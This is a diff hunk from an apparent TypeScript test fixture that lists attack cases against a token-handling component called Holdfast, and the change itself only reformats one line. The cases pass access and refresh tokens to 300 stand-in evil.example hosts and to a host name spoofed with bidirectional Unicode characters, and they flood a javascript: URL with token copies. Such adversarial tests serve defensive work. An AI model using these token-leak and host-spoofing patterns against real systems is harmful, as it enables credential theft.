@@ -58,9 +58,7 @@ export const FROM_PAGE: readonly Attack[] = [
     hope: 'a full log, a host that reads as another, an error of Holdfast’s',
     run: (place, { access, refresh, resource }) =>
       speak(place, [
-        ...Array.from({ length: 300 }, (_, number) =>
-          passedOn(`https://h${number}.evil.example/`, [access, refresh]),
-        ),
+        ...Array.from({ length: 300 }, (_, number) => passedOn(`https://h${number}.evil.example/`, [access, refresh])),
         passedOn('https://\u202eelpmaxe.ipa\u2066.example/', [access]),
         passedOn(resource, [access.replace(/.$/, '~'), access.replace(/..$/, 'xx'), null]),
         passedOn('javascript:0', Array(10_000).fill(access)),
